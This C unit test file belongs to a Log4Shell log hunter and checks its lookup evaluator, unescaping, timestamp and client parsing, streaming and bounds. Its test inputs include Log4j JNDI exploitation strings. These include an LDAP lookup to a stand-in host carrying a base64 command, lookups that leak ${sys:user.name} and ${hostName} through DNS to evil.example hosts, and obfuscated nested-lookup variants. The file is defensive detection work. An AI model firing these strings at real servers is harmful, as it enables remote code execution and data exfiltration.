/* test_loghunt.c - unit tests of the lookup evaluator and the log hunter.
 *
 * The obfuscation tables are data: tests/cases/logs-payloads.tsv (logged
 * text, the jndi lookup Log4j would make of it, the exfiltration lookups),
 * tests/cases/logs-near-misses.tsv (text that must not be reported) and
 * tests/cases/logs-statuses.tsv (attempts that are broken, or performed
 * only when the message starts at them).  Each row is logged inside an
 * access-log line and fed to a hunter; each payload is also fed one byte at
 * a time, which must change nothing.  The rest checks the pieces: the
 * evaluator's passes, stops and modes, unescaping with its offset map,
 * timestamps, clients, URL targets, line numbers and offsets across buffer
 * refills, a payload at the end of a line longer than the buffer, and the
 * bounds, each of which gives a "bound" attempt when padding reaches it. */
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "logs/loghunt.h"
#include "logs/lookup_eval.h"
#include "unit.h"

struct seen {
	size_t n;
	struct {
		char *path, *decoded, *raw, *timestamp, *client, *protocol, *host, *exfil, *payload;
		unsigned long long line, offset;
		int port;
		enum lh_status status;
		enum lh_bound bound;
	} a[64];
};

static char *dup_or_null(const char *s)
{
	return s ? xstrdup(s) : NULL;
}

static void on_attempt(void *ctx, const struct lh_attempt *a)
{
	struct seen *s = ctx;
	if (s->n == 64)
		return;
	struct buf ex = BUF_INIT;
	for (size_t i = 0; i < a->n_exfil; i++) {
		if (i)
			buf_addc(&ex, ',');
		buf_adds(&ex, a->exfil[i]);
	}
	s->a[s->n].path = xstrdup(a->path);
	s->a[s->n].decoded = xstrdup(a->decoded);
	s->a[s->n].raw = xstrndup(a->raw, a->raw_len);
	s->a[s->n].timestamp = dup_or_null(a->timestamp);
	s->a[s->n].client = dup_or_null(a->client);
	s->a[s->n].protocol = xstrdup(a->protocol);
	s->a[s->n].host = xstrdup(a->host);
	s->a[s->n].exfil = xstrdup(buf_cstr(&ex));
	s->a[s->n].payload = a->payload ? xstrndup(a->payload, a->payload_len) : NULL;
	s->a[s->n].line = a->line;
	s->a[s->n].offset = a->offset;
	s->a[s->n].port = a->port;
	s->a[s->n].status = a->status;
	s->a[s->n].bound = a->bound;
	s->n++;
	buf_free(&ex);
}

static void seen_clear(struct seen *s)
{
	for (size_t i = 0; i < s->n; i++) {
		free(s->a[i].path);
		free(s->a[i].decoded);
		free(s->a[i].raw);
		free(s->a[i].timestamp);
		free(s->a[i].client);
		free(s->a[i].protocol);
		free(s->a[i].host);
		free(s->a[i].exfil);
		free(s->a[i].payload);
	}
	s->n = 0;
}

/* Feed text to a fresh stream in pieces of `step` bytes (0 = at once). */
static void hunt(struct loghunt *h, const char *text, size_t n, size_t step)
{
	loghunt_begin(h, "test.log");
	if (!step)
		step = n ? n : 1;
	for (size_t i = 0; i < n; i += step)
		loghunt_feed(h, text + i, n - i < step ? n - i : step);
	loghunt_end(h);
}

static const char line_prefix[] =
	"198.51.100.7 - - [10/Dec/2021:13:55:36 +0100] \"GET /search?q=1&x=%20y HTTP/1.1\" 200 512 \"-\" \"";

static void access_line(struct buf *b, const char *payload)
{
	buf_reset(b);
	buf_adds(b, "203.0.113.1 - - [10/Dec/2021:13:55:35 +0100] \"GET / HTTP/1.1\" 200 1 \"-\" \"curl\"\n");
	buf_adds(b, line_prefix);
	buf_adds(b, payload);
	buf_adds(b, "\"\n");
}

/* Split a TSV line in place into at most max fields. */
static size_t split_tabs(char *line, char **f, size_t max)
{
	size_t n = 0;
	line[strcspn(line, "\r\n")] = 0;
	char *p = line;
	while (n < max) {
		f[n++] = p;
		char *t = strchr(p, '\t');
		if (!t)
			break;
		*t = 0;
		p = t + 1;
	}
	return n;
}

static FILE *open_case(const char *name)
{
	char path[4096];
	const char *top = getenv("TOP");
	snprintf(path, sizeof path, "%s/tests/cases/%s", top ? top : ".", name);
	return fopen(path, "r");
}

/* What the table tests share: the hunter, where attempts are seen, the
 * line being logged, and counts. */
struct table {
	struct loghunt *h;
	struct seen *s;
	struct buf text;
	int broken, alone;
};

typedef void (*row_fn)(struct table *t, char **fld, size_t nf);

/* Call fn for each row of tests/cases/<name> with at least min_fields
 * fields (at most 4); returns how many, or -1 when it cannot be read. */
static int each_row(const char *name, size_t min_fields, row_fn fn, struct table *t)
{
	FILE *f = open_case(name);
	char line[8192], check[128];
	snprintf(check, sizeof check, "%s readable", name);
	CHECK(check, f != NULL);
	if (!f)
		return -1;
	int rows = 0;
	while (fgets(line, sizeof line, f)) {
		char *fld[4];
		if (line[0] == '#' || line[0] == '\n')
			continue;
		size_t nf = split_tabs(line, fld, 4);
		if (nf < min_fields)
			continue;
		rows++;
		access_line(&t->text, fld[1]);
		fn(t, fld, nf);
	}
	fclose(f);
	return rows;
}

static void payload_row(struct table *t, char **fld, size_t nf)
{
	struct seen *s = t->s;
	char name[256];
	const char *want_exfil = nf > 3 ? fld[3] : "";
	for (int step = 0; step < 2; step++) {
		const char *how = step ? " (bytewise)" : "";
		seen_clear(s);
		hunt(t->h, t->text.data, t->text.len, step ? 1 : 0);
		snprintf(name, sizeof name, "payload %s%s: one attempt, performed", fld[0], how);
		CHECK(name, s->n == 1 && s->a[0].status == LH_PERFORMED);
		if (s->n < 1)
			continue;
		snprintf(name, sizeof name, "payload %s%s: decoded", fld[0], how);
		CHECK_STR(name, s->a[0].decoded, fld[2]);
		snprintf(name, sizeof name, "payload %s%s: raw", fld[0], how);
		CHECK_STR(name, s->a[0].raw, fld[1]);
		snprintf(name, sizeof name, "payload %s%s: exfil", fld[0], how);
		CHECK_STR(name, s->a[0].exfil, want_exfil);
		snprintf(name, sizeof name, "payload %s%s: line and offset", fld[0], how);
		CHECK(name, s->a[0].line == 2 &&
			    s->a[0].offset == (unsigned long long)(strstr(t->text.data, line_prefix) - t->text.data) +
						  sizeof line_prefix - 1);
	}
}

static void status_row(struct table *t, char **fld, size_t nf)
{
	struct seen *s = t->s;
	char name[256];
	enum lh_status want = !strcmp(fld[2], "broken") ? LH_BROKEN :
			      !strcmp(fld[2], "performed_alone") ? LH_PERFORMED_ALONE : LH_PERFORMED;
	t->broken += want == LH_BROKEN;
	t->alone += want == LH_PERFORMED_ALONE;
	for (int step = 0; step < 2; step++) {
		const char *how = step ? " (bytewise)" : "";
		seen_clear(s);
		hunt(t->h, t->text.data, t->text.len, step ? 1 : 0);
		snprintf(name, sizeof name, "status %s%s: one attempt, %s", fld[0], how, fld[2]);
		CHECK(name, s->n == 1 && s->a[0].status == want);
		if (s->n != 1 || s->a[0].status != want)
			printf("#   %zu attempts, the first %s\n", s->n, s->n ? loghunt_status_name(s->a[0].status) : "-");
		if (!s->n)
			continue;
		snprintf(name, sizeof name, "status %s%s: decoded", fld[0], how);
		CHECK_STR(name, s->a[0].decoded, fld[3]);
	}
}

static void near_miss_row(struct table *t, char **fld, size_t nf)
{
	struct seen *s = t->s;
	char name[256];
	seen_clear(s);
	hunt(t->h, t->text.data, t->text.len, 0);
	snprintf(name, sizeof name, "near miss %.100s: not reported", fld[0]);
	CHECK(name, s->n == 0);
	if (s->n)
		printf("#   reported as %s\n", s->a[0].decoded);
	/* the bare text, as the whole message, and as an attacker sees it */
	for (unsigned flags = 0; flags <= LK_NAIVE; flags += LK_NAIVE) {
		struct lk_result r;
		size_t found = lookup_eval(fld[1], strlen(fld[1]), flags, &r);
		lookup_result_free(&r);
		snprintf(name, sizeof name, "near miss %.100s: evaluator finds no jndi%s", fld[0],
			 flags ? ", not even naively" : "");
		CHECK(name, found == 0);
	}
}

static void test_tables(struct loghunt *h, struct seen *s)
{
	struct table t = {.h = h, .s = s, .text = BUF_INIT};
	CHECK("payload table has at least 40 forms", each_row("logs-payloads.tsv", 3, payload_row, &t) >= 40);
	int rows = each_row("logs-statuses.tsv", 4, status_row, &t);
	CHECK("status table has broken and performed_alone rows",
	      t.broken >= 5 && t.alone >= 2 && rows == t.broken + t.alone);
	CHECK("near-miss table has at least 20 rows", each_row("logs-near-misses.tsv", 2, near_miss_row, &t) >= 20);
	buf_free(&t.text);
}

static void test_fields(struct loghunt *h, struct seen *s)
{
	struct buf text = BUF_INIT;
	access_line(&text, "${jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}");
	seen_clear(s);
	hunt(h, text.data, text.len, 0);
	CHECK("fields: one attempt", s->n == 1);
	if (s->n == 1) {
		CHECK_STR("fields: path", s->a[0].path, "test.log");
		CHECK_STR("fields: protocol", s->a[0].protocol, "ldap");
		CHECK_STR("fields: host", s->a[0].host, "203.0.113.7");
		CHECK("fields: port", s->a[0].port == 1389);
		CHECK_STR("fields: client", s->a[0].client, "198.51.100.7");
		CHECK_STR("fields: timestamp", s->a[0].timestamp, "2021-12-10T13:55:36+01:00");
		CHECK_STR("fields: base64 payload", s->a[0].payload, "touch /tmp/pwned");
	}
	/* the line head ends at its newline: the next line's date is not ours */
	const char *two = "Dec 13 08:01:03 web1 app: ${jndi:dns://e.example/x}\n"
			  "2021-12-10 13:55:36,123 [main] INFO next line\n";
	seen_clear(s);
	hunt(h, two, strlen(two), 0);
	CHECK("fields: timestamp from its own line", s->n == 1 && s->a[0].timestamp &&
						      !strcmp(s->a[0].timestamp, "Dec 13 08:01:03"));
	buf_free(&text);
}

static void test_targets(void)
{
	static const struct {
		const char *decoded, *protocol, *host;
		int port;
	} t[] = {
		{"jndi:ldap://203.0.113.7:1389/a", "ldap", "203.0.113.7", 1389},
		{"jndi:LDAPS://Evil.Example/a", "ldaps", "Evil.Example", -1},
		{"jndi:rmi://u@evil.example:1099", "rmi", "evil.example", 1099},
		{"jndi:dns://[2001:db8::1]:53/x", "dns", "[2001:db8::1]", 53},
		{"jndi:corbaname:iiop:evil.example:1050#x", "corba", "evil.example", 1050},
		{"jndi:iiopname://evil.example:900/x", "iiop", "evil.example", 900},
		{"jndi:dns://${hostName}.evil.example", "dns", "${hostName}.evil.example", -1},
		{"jndi:ldap://x:99999/a", "ldap", "x", -1},
		{"jndi:ldap://127.0.0.1#evil.example:1389/a", "ldap", "127.0.0.1#evil.example", 1389},
		{"jndi:foo", "", "", -1},
		{"jndi:java:comp/env", "java", "", -1},
	};
	struct buf p = BUF_INIT, h = BUF_INIT;
	char name[128];
	for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
		int port;
		loghunt_jndi_target(t[i].decoded, &p, &h, &port);
		snprintf(name, sizeof name, "target %s", t[i].decoded);
		CHECK(name, !strcmp(buf_cstr(&p), t[i].protocol) && !strcmp(buf_cstr(&h), t[i].host) &&
				    port == t[i].port);
		if (strcmp(buf_cstr(&p), t[i].protocol) || strcmp(buf_cstr(&h), t[i].host) || port != t[i].port)
			printf("#   got '%s' '%s' %d\n", buf_cstr(&p), buf_cstr(&h), port);
	}
	buf_free(&p);
	buf_free(&h);
}

static void test_timestamps(void)
{
	static const struct {
		const char *line, *ts, *day;
	} t[] = {
		{"1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] \"GET /", "2000-10-10T13:55:36-07:00", "2000-10-10"},
		{"2021-12-10T08:01:02.345Z INFO x", "2021-12-10T08:01:02.345Z", "2021-12-10"},
		{"2021-12-10 08:01:02,345 [main] INFO", "2021-12-10T08:01:02.345", "2021-12-10"},
		{"{\"time\":\"2021-12-11T23:59:59+05:30\",\"msg\":1}", "2021-12-11T23:59:59+05:30", "2021-12-11"},
		{"Dec 10 08:01:02 host sshd[1]: x", "Dec 10 08:01:02", "--12-10"},
		{"<13>Dec  9 08:01:02 host x", "Dec  9 08:01:02", "--12-09"},
	};
	struct buf ts = BUF_INIT;
	char day[11], name[160];
	for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
		bool ok = loghunt_line_timestamp(t[i].line, strlen(t[i].line), &ts, day);
		snprintf(name, sizeof name, "timestamp of '%.30s'", t[i].line);
		CHECK(name, ok && !strcmp(buf_cstr(&ts), t[i].ts) && !strcmp(day, t[i].day));
		if (!ok || strcmp(buf_cstr(&ts), t[i].ts) || strcmp(day, t[i].day))
			printf("#   got '%s' '%s'\n", buf_cstr(&ts), day);
	}
	CHECK("no timestamp in prose", !loghunt_line_timestamp("hello world 12:00", 17, &ts, day));
	buf_free(&ts);
}

static void test_clients(void)
{
	struct buf c = BUF_INIT;
	const char *l1 = "203.0.113.9 - frank [10/Oct/2000:13:55:36 -0700] \"GET /";
	CHECK("client ipv4", loghunt_line_client(l1, strlen(l1), &c) && !strcmp(buf_cstr(&c), "203.0.113.9"));
	const char *l2 = "2001:db8::7 - - [10/Oct/2000:13:55:36 -0700] \"GET /";
	CHECK("client ipv6", loghunt_line_client(l2, strlen(l2), &c) && !strcmp(buf_cstr(&c), "2001:db8::7"));
	const char *l3 = "Dec 10 08:01:02 host sshd[1]: x";
	CHECK("no client in syslog", !loghunt_line_client(l3, strlen(l3), &c));
	const char *l4 = "2021-12-10 08:01:02,345 [main] INFO";
	CHECK("no client in app log", !loghunt_line_client(l4, strlen(l4), &c));
	buf_free(&c);
}

static void test_unescape(void)
{
	const char *s = "a%2524%257Bb\\u0024&#36;";
	char out[64];
	uint32_t map[65];
	size_t n = loghunt_unescape(s, strlen(s), out, map);
	CHECK("unescape: repeated layers", n == 6 && !memcmp(out, "a${b$$", 6));
	CHECK("unescape: map points at the escapes", map[0] == 0 && map[1] == 1 && map[2] == 6 &&
						     map[3] == 11 && map[4] == 12 && map[5] == 18 &&
						     map[6] == strlen(s));
	const char *u = "\\u0131%C4%B1%zz\\u00";
	n = loghunt_unescape(u, strlen(u), out, NULL);
	CHECK("unescape: utf-8 and broken escapes", n == 4 + 7 && !memcmp(out, "\xc4\xb1\xc4\xb1%zz\\u00", n));
}

/* Line numbers and offsets across buffer refills, CRLF, and a payload at
 * the end of a line far longer than the buffer. */
static void test_stream(struct loghunt *h, struct seen *s)
{
	struct buf t = BUF_INIT;
	for (int i = 0; i < 30000; i++)
		buf_printf(&t, "10.0.0.%d - - [10/Dec/2021:00:00:%02d +0000] \"GET /a?b=%%41&c=1 HTTP/1.1\" 200 1\r\n",
			   i % 250, i % 60);
	size_t off1 = t.len;
	buf_adds(&t, "x ${jndi:ldap://one.example/a}\n");
	for (int i = 0; i < 30000; i++)
		buf_adds(&t, "plain line with 100% & $ signs\n");
	buf_adds(&t, "10.9.9.9 - - [11/Dec/2021:01:02:03 +0000] \"GET /");
	size_t long_start = t.len;
	while (t.len - long_start < 3 * LH_BUF_SIZE)
		buf_adds(&t, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa$");
	/* (a '$' right before it would make "$%24%7B" the escape "$${") */
	buf_addc(&t, ' ');
	size_t off2 = t.len;
	buf_adds(&t, "%24%7Bjndi:rmi://two.example/b%7D");
	seen_clear(s);
	hunt(h, t.data, t.len, 65536 + 7);
	CHECK("stream: two attempts", s->n == 2);
	if (s->n == 2) {
		CHECK("stream: first line number", s->a[0].line == 30001);
		CHECK("stream: first offset", s->a[0].offset == off1 + 2);
		CHECK("stream: second line number", s->a[1].line == 60002);
		CHECK("stream: second offset", s->a[1].offset == off2);
		CHECK_STR("stream: long line keeps its timestamp", s->a[1].timestamp, "2021-12-11T01:02:03+00:00");
		CHECK_STR("stream: long line keeps its client", s->a[1].client, "10.9.9.9");
		CHECK_STR("stream: last line without newline", s->a[1].decoded, "jndi:rmi://two.example/b");
	}
	const struct lh_stats *st = loghunt_stats(h);
	CHECK("stream: counts lines", st->lines > 60002);
	buf_free(&t);
}

/* A hostile line: lots of nesting and unclosed "${" must cost bounded time
 * and still find the real payload placed before the junk. */
static void test_bounds(struct loghunt *h, struct seen *s)
{
	struct buf t = BUF_INIT;
	buf_adds(&t, "${jndi:ldap://first.example/a} ");
	while (t.len < (8u << 20))
		buf_adds(&t, "${${lower:${");
	buf_adds(&t, "\n");
	seen_clear(s);
	clock_t c0 = clock();
	hunt(h, t.data, t.len, 1 << 16);
	double secs = (double)(clock() - c0) / CLOCKS_PER_SEC;
	CHECK("bounds: payload before junk found", s->n >= 1 && s->a[0].status == LH_PERFORMED &&
						    !strcmp(s->a[0].decoded, "jndi:ldap://first.example/a"));
	CHECK("bounds: the junk is at most one bound attempt", s->n == 1 ||
	      (s->n == 2 && s->a[1].status == LH_BOUND && s->a[1].bound == LH_BOUND_EXPR_LEN));
	CHECK("bounds: 8 MB of '${' in bounded time", secs < 20.0);
	printf("# 8 MB hostile line: %.2f s\n", secs);

	/* junk that would exhaust a fixed budget must not hide what follows */
	static const char *const junk[] = {"${", "${a}", "${${lower:x}", "%24%7B", "${::-${::-${::-x}}}"};
	for (size_t k = 0; k < sizeof junk / sizeof junk[0]; k++) {
		buf_reset(&t);
		while (t.len < (4u << 20))
			buf_adds(&t, junk[k]);
		buf_adds(&t, " ${jndi:ldap://after-junk.example/a}\n");
		seen_clear(s);
		c0 = clock();
		hunt(h, t.data, t.len, 1 << 16);
		secs = (double)(clock() - c0) / CLOCKS_PER_SEC;
		char name[128];
		snprintf(name, sizeof name, "bounds: payload after 4 MB of '%s' found", junk[k]);
		CHECK(name, s->n >= 1 && !strcmp(s->a[s->n - 1].decoded, "jndi:ldap://after-junk.example/a") &&
			    s->a[s->n - 1].status != LH_BOUND);
		snprintf(name, sizeof name, "bounds: 4 MB of '%s' is at most one bound attempt", junk[k]);
		CHECK(name, s->n == 1 || (s->n == 2 && s->a[0].status == LH_BOUND));
		snprintf(name, sizeof name, "bounds: 4 MB of '%s' in bounded time", junk[k]);
		CHECK(name, secs < 20.0);
		printf("# 4 MB of '%s': %.2f s\n", junk[k], secs);
	}

	buf_reset(&t);
	for (int i = 0; i < 5000; i++)
		buf_adds(&t, "${lower:");
	buf_adds(&t, "${jndi:ldap://deep.example/a}");
	for (int i = 0; i < 5000; i++)
		buf_addc(&t, '}');
	struct lk_result r;
	lookup_eval(t.data, t.len, 0, &r);
	CHECK("bounds: deep nesting stops at the depth limit", r.limited);
	CHECK("bounds: steps bounded", r.steps <= LK_MAX_STEPS + t.len);
	lookup_result_free(&r);

	buf_reset(&t);
	buf_adds(&t, "${jndi:ldap://");
	for (int i = 0; i < 20; i++)
		buf_adds(&t, "${lower:${upper:${lower:x}}}");
	buf_adds(&t, "/a}");
	size_t found = lookup_eval(t.data, t.len, 0, &r);
	CHECK("bounds: moderate nesting evaluates fully", found == 1 && !r.limited);
	lookup_result_free(&r);
	buf_free(&t);
}

/* The evaluator itself: passes, stops, modes. */
static void test_evaluator(void)
{
	struct lk_result r;
	const char *two = "$$${jndi:ldap://p.example/a}${a}${b}";
	CHECK("eval: two escapes need three passes", lookup_eval(two, strlen(two), 0, &r) == 1 &&
						       r.passes == 3 && r.found[0].pass == 3);
	lookup_result_free(&r);
	const char *one = "$$${jndi:ldap://p.example/a}${a}";
	CHECK("eval: ... and a lookup after it for each", lookup_eval(one, strlen(one), 0, &r) == 0);
	lookup_result_free(&r);
	CHECK("eval: the message going on makes one more pass",
	      lookup_eval(one, strlen(one), LK_FORCE, &r) == 1 && r.found[0].forced);
	lookup_result_free(&r);
	const char *top = "x ${a} ${jndi:ldap://t.example/a} y";
	CHECK("eval: the top-level expression of a find", lookup_eval(top, strlen(top), 0, &r) == 1 &&
							    r.found[0].pass == 1 && r.found[0].expr_start == 7 &&
							    r.found[0].expr_end == 33 && r.last_expr_end == 33);
	lookup_result_free(&r);
	const char *unclosed = "ab ${x ${jndi:ldap://u.example/a}";
	CHECK("eval: an unclosed ${ ends the pass", lookup_eval(unclosed, strlen(unclosed), 0, &r) == 0 &&
						    r.stop == LK_STOP_UNCLOSED && r.stop_at == 3);
	lookup_result_free(&r);
	const char *thrown = "${java:nope} ${jndi:ldap://u.example/a}";
	CHECK("eval: java:<unknown> throws", lookup_eval(thrown, strlen(thrown), 0, &r) == 0 &&
					     r.stop == LK_STOP_THROW && r.stop_at == 12);
	lookup_result_free(&r);
	CHECK("eval: naively it does not", lookup_eval(thrown, strlen(thrown), LK_NAIVE, &r) == 1);
	lookup_result_free(&r);
	const char *cycle = "${x:-$${x}}";
	CHECK("eval: a variable in its own value throws", lookup_eval(cycle, strlen(cycle), 0, &r) == 0 &&
							   r.stop == LK_STOP_THROW);
	lookup_result_free(&r);
	const char *host = "${jndi:ldap://${java:version}.${sys:user.name}.e.example/${env:NOPE:-x}}";
	CHECK("eval: host values are shown as their lookups",
	      lookup_eval(host, strlen(host), 0, &r) == 1 &&
	      !strcmp(r.found[0].decoded, "jndi:ldap://${java:version}.${sys:user.name}.e.example/x") &&
	      r.found[0].n_exfil == 2);
	lookup_result_free(&r);
	const char *ff = "${jndi:x/${upper:\xEF\xAC\x81\xC3\x9F\xC5\xBF}/${lower:\xE2\x84\xAA}}";
	CHECK("eval: Java's case mappings onto ASCII", lookup_eval(ff, strlen(ff), 0, &r) == 1 &&
						       !strcmp(r.found[0].decoded, "jndi:x/FISSS/k"));
	lookup_result_free(&r);
	const char *mark = "${jndi:\xFF\x80\x80${hostName}}";
	CHECK("eval: an input 0xFF is not a marker", lookup_eval(mark, strlen(mark), 0, &r) == 1 &&
						     !strcmp(r.found[0].decoded, "jndi:\xFE\x80\x80${hostName}"));
	lookup_result_free(&r);
}

/* Padding past each bound gives one "bound" attempt, not silence; an
 * unclosed "${" that the line never closes gives none. */
static void test_padding(struct loghunt *h, struct seen *s)
{
	struct buf t = BUF_INIT;
	static const struct {
		const char *what;
		enum lh_bound bound;
	} cases[] = {
		{"expression longer than the window", LH_BOUND_EXPR_LEN},
		{"lookup after the window makes a pass", LH_BOUND_MSG_LEN},
		{"nesting deeper than the evaluator", LH_BOUND_DEPTH},
		{"passes beyond the evaluation steps", LH_BOUND_STEPS},
	};
	for (size_t k = 0; k < sizeof cases / sizeof cases[0]; k++) {
		buf_reset(&t);
		buf_adds(&t, "2021-12-10 08:01:02,345 [main] INFO c.e.App - ");
		if (k == 0) {
			buf_adds(&t, "${${");
			for (int i = 0; i < LH_MSG_MAX; i++)
				buf_addc(&t, 'x');
			buf_adds(&t, ":-}jndi:ldap://pad.example/a}");
		} else if (k == 1) {
			buf_adds(&t, "$${jndi:ldap://pad.example/a}");
			for (int i = 0; i < LH_MSG_MAX; i++)
				buf_addc(&t, ' ');
			buf_adds(&t, "${x}");
		} else if (k == 2) {
			for (int i = 0; i < LK_MAX_DEPTH + 10; i++)
				buf_adds(&t, "${lower:");
			buf_adds(&t, "${jndi:ldap://pad.example/a}");
			for (int i = 0; i < LK_MAX_DEPTH + 10; i++)
				buf_addc(&t, '}');
		} else {
			for (int i = 0; i < 600; i++)
				buf_addc(&t, '$');
			buf_adds(&t, "{jndi:ldap://pad.example/a}");
			for (int i = 0; i < 600; i++)
				buf_adds(&t, "${a}");
		}
		buf_adds(&t, "\nnext line\n");
		for (int step = 0; step < 2; step++) {
			seen_clear(s);
			hunt(h, t.data, t.len, step ? 4099 : 0);
			char name[160];
			snprintf(name, sizeof name, "padding: %s: one bound attempt (%s)%s", cases[k].what,
				 loghunt_bound_name(cases[k].bound), step ? " (in pieces)" : "");
			CHECK(name, s->n == 1 && s->a[0].status == LH_BOUND && s->a[0].bound == cases[k].bound &&
				    s->a[0].line == 1 && !s->a[0].decoded[0]);
			if (s->n)
				printf("#   %s %s\n", loghunt_status_name(s->a[0].status), loghunt_bound_name(s->a[0].bound));
		}
	}
	/* Log4j does nothing with a "${" that never closes */
	buf_reset(&t);
	buf_adds(&t, "${jndi:ldap://never.example/");
	for (int i = 0; i < 2 * LH_MSG_MAX; i++)
		buf_addc(&t, 'a');
	buf_adds(&t, "\n}\n");
	seen_clear(s);
	hunt(h, t.data, t.len, 0);
	CHECK("padding: a ${ its line never closes is no attempt", s->n == 0);
	buf_free(&t);
}

static void test_tally(void)
{
	struct lh_tally t = {0};
	char key[32];
	for (int i = 0; i < 1000; i++) {
		snprintf(key, sizeof key, "h%d", i % 100);
		loghunt_tally_add(&t, key);
	}
	loghunt_tally_add(&t, "h7");
	loghunt_tally_sort(&t);
	CHECK("tally: distinct keys", t.n == 100);
	CHECK("tally: sorted by count", t.n && !strcmp(t.v[0].key, "h7") && t.v[0].count == 11 &&
						  t.v[1].count == 10 && !strcmp(t.v[1].key, "h0"));
	loghunt_tally_free(&t);
}

int main(void)
{
	static struct seen s;
	struct loghunt *h = loghunt_new(on_attempt, &s);
	test_tables(h, &s);
	test_evaluator();
	test_padding(h, &s);
	test_fields(h, &s);
	test_targets();
	test_timestamps();
	test_clients();
	test_unescape();
	test_stream(h, &s);
	test_bounds(h, &s);
	test_tally();
	seen_clear(&s);
	loghunt_free(h);
	UNIT_EXIT();
}
